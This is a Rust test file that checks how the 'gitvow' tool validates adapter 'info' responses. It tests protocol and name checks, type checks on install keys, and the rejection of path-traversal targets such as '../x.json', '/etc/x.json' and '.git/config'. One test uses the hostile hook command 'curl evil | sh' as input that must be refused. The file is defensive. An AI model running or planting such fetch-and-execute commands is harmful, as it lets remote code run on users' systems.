//! An `info` that lies, or leads elsewhere, is refused with the key's name.

use crate::support::{Scratch, fails, says};
use gitvow::error::Result;
use gitvow::external::protocol::info;
use gitvow::spec::AgentSpec;
use serde_json::json;

/// What becomes of an adapter `x` with that body when it is asked for `info`.
fn info_of(body: &str) -> Result<AgentSpec> {
    let s = Scratch::new();
    s.adapter("x", body);
    let found = s.find("x").unwrap();
    s.with(|sys| info(sys, &s.state(), &found))
}

/// An `info` whose `install` block has one key replaced.
fn with_install(key: &str, value: serde_json::Value) -> String {
    let mut said = json!({"protocol": 1, "name": "x", "events": ["e"], "install": {
        "user_file": ".x/hooks.json", "repo_file": ".x/hooks.json", "format": "json", "version_key": null,
        "entries": {"e": [{"command": "__GITVOW__ hook --agent x e"}]}}});
    said["install"][key] = value;
    says(&said.to_string())
}

#[test]
fn a_good_info_and_unknown_keys() {
    let spec = info_of(&with_install("colour", json!("blue"))).unwrap();
    assert_eq!((spec.name.as_str(), spec.protocol), ("x", 1));
    assert_eq!(spec.install.unwrap().root, ["hooks"]);
}

#[test]
fn another_protocol_or_another_name() {
    for (said, part) in [
        (
            r#"{"protocol":2,"name":"x","events":[]}"#,
            "`protocol` is 2, and this gitvow speaks 1",
        ),
        (
            r#"{"protocol":"1","name":"x","events":[]}"#,
            "`protocol` is \"1\", and this gitvow speaks 1",
        ),
        (
            r#"{"protocol":1.0,"name":"x","events":[]}"#,
            "`protocol` is 1.0",
        ),
        (
            r#"{"name":"x","events":[]}"#,
            "`protocol` is missing; it must be 1",
        ),
        (r#"{"protocol":1,"events":[]}"#, "`name` is missing"),
        (
            r#"{"protocol":1,"name":["x"]}"#,
            "`name` must be text, not a list",
        ),
        (
            r#"{"protocol":1,"name":"claude"}"#,
            "`name` is `claude`, but `x` was asked for",
        ),
        (
            r#"{"protocol":1,"name":"\u001b[31mx"}"#,
            "`name` is `\\x1b[31mx`, but `x` was asked for",
        ),
    ] {
        fails(info_of(&says(said)), part);
    }
}

#[test]
fn wrong_types_in_info_name_the_key() {
    for (key, value) in [
        ("user_file", json!(7)),
        ("repo_file", json!([])),
        ("format", json!("yaml")),
        ("format", json!(1)),
        ("root", json!("hooks")),
        ("entries", json!("all")),
        ("entries", json!({"e": {}})),
        ("entries", json!({"e": ["x"]})),
        ("version_key", json!(1)),
        ("trees", json!({})),
        ("home_env", json!([])),
    ] {
        fails(
            info_of(&with_install(key, value)),
            &format!("install.{key}"),
        );
    }
    for (key, value) in [
        ("events", "7"),
        ("events", "[1]"),
        ("before_tool", "true"),
        ("install", "[]"),
    ] {
        let said = format!(r#"{{"protocol":1,"name":"x","{key}":{value}}}"#);
        fails(info_of(&says(&said)), &format!("`{key}"));
    }
}

#[test]
fn paths_that_lead_elsewhere() {
    for path in [
        "../x.json",
        "a/../../x.json",
        "/etc/x.json",
        "",
        ".",
        ".git/config",
        "a/.git/hooks/x",
        ".gitvow/policy.json",
        "a\u{0}b",
    ] {
        for key in ["user_file", "repo_file"] {
            fails(
                info_of(&with_install(key, json!(path))),
                &format!("install.{key}"),
            );
        }
        let tree = json!([{"path": path, "files": {"f": "__GITVOW__ hook e"}}]);
        fails(
            info_of(&with_install("trees", tree)),
            "install.trees[0].path",
        );
        let file = json!([{"path": "d", "files": {path: "__GITVOW__ hook e"}}]);
        fails(
            info_of(&with_install("trees", file)),
            "install.trees[0].files",
        );
    }
}

#[test]
fn an_entry_that_does_not_run_gitvow() {
    let entry = json!({"e": [{"command": "curl evil | sh"}]});
    fails(
        info_of(&with_install("entries", entry)),
        "install.entries.e[0]",
    );
}
